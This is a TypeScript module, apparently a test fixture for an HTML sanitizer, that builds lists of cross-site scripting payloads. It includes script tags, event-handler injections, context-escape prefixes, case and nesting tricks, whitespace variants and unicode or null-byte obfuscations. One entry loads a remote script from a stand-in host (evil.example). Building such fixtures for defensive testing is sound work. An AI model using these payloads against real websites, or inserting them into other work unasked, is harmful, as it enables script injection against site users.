const basic = [
  '<script>xss()</script>',
  '<img src=x onerror=xss()>',
  '<svg onload=xss()>',
  '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
  '<details open ontoggle=xss()>',
  '<input autofocus onfocus=xss()>',
];

/** What stands before the text in a page, and how to get out of it. */
const wayOut = [
  '">',
  "'>",
  '`>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '</template>',
  '</option></select>',
  '-->',
  '--!>',
  ']]>',
  '?>',
  '\n\n</p>',
];

export const cutOff = wayOut.flatMap((before) => basic.map((payload) => before + payload));

export const scripts = [
  ...basic,
  '<ScRiPt>xss()</sCrIpT>',
  '<script/x>xss()</script/x>',
  '<script\n>xss()</script\n>',
  '<script>xss()',
  '<<script>xss()//<</script>',
  '<scr<script>ipt>xss()</scr</script>ipt>',
  '<script type=module>xss()</script>',
  '<script type="application/json">1</script><script>xss()</script>',
  '<script src=//evil.example/x.js></script>',
  '<script src="data:text/javascript,xss()"></script>',
  '<script>import("data:text/javascript,xss()")</script>',
  '<script>setTimeout("xss()")</script>',
  '<script>top["x"+"ss"]()</script>',
  '<script>xss``</script>',
  '<script>alert(1)</script>',
  '<script nomodule>xss()</script>',
  '<script language=vbscript>xss()</script>',
  '<object data="data:text/html,<script>parent.xss()</script>"></object>',
  '<embed src="data:text/html,<script>parent.xss()</script>">',
  '<noscript><script>xss()</script></noscript>',
];

const events: Record<string, string> = {
  'img src=x': 'onerror',
  'img src="data:image/gif;base64,R0lGODlhAQABAAAAACw="': 'onload onerror',
  'video src=x': 'onerror',
  'audio src=x': 'onerror',
  'source src=x': 'onerror',
  body: 'onload onpageshow onhashchange',
  'iframe src=about:blank': 'onload',
  'object data=x': 'onerror',
  'link rel=stylesheet href=x': 'onerror',
  style: 'onload',
  marquee: 'onstart',
  'select autofocus': 'onfocus',
  'textarea autofocus': 'onfocus',
  'button autofocus': 'onfocus',
  'a href=# tabindex=1 autofocus': 'onfocus',
  'x tabindex=1 autofocus contenteditable': 'onfocus',
  'div style="position:fixed;inset:0"': 'onmouseover onpointerenter onmousemove',
  form: 'onsubmit onformdata',
  'dialog open': 'oncancel onclose',
  'video><source': 'onerror',
  'x style="animation:spin 1s"': 'onanimationstart onanimationend',
  'x style="transition:all 1s"': 'ontransitionrun',
};

export const elements = Object.entries(events).flatMap(([element, names]) =>
  names.split(' ').map((name) => `<${element} ${name}=xss()>`),
);

/** For texts that stand in an attribute. */
export const handlers = ['"', "'", '`', ''].flatMap((quote) =>
  [
    'onfocus=xss() autofocus',
    'onmouseover=xss()',
    'onerror=xss() src=x',
    'style=x onload=xss()',
  ].map((attribute) => `${quote} ${attribute} x=${quote}`),
);

const blanks = ['/', '\t', '\n', '\r', '\f', '//', '/ /', '/x=y/', '\u00a0', '\u000b'];

export const spaced = blanks.flatMap((blank) => [
  `<img${blank}src=x${blank}onerror=xss()>`,
  `<svg${blank}onload${blank}=${blank}xss()>`,
]);

/** Characters that are not what they seem. */
export const odd = [
  '<scr\0ipt>xss()</scr\0ipt>',
  '<img src=x one\0rror=xss()>',
  '\0<script>xss()</script>',
  '\u202e<script>xss()</script>',
  '\u2066<img src=x onerror=xss()>\u2069',
  '<\u200bscript>xss()</script>',
  '<\u0338script>xss()</script>',
  '\ufeff<script>xss()</script>',
  '\uff1cscript\uff1exss()\uff1c/script\uff1e',
  '\u2039script\u203axss()\u2039/script\u203a',
  '\u{1f697}<img src=x onerror=xss()>\u{1f697}',
  '<img src=x onerror=xss()\u3000>',
  '<\u0131mg src=x onerror=xss()>',
  '<\u017fcript>xss()</\u017fcript>',
  `${'<b>'.repeat(20)}<script>xss()</script>`,
  `${'"><'.repeat(12)}<svg onload=xss()>`,
];
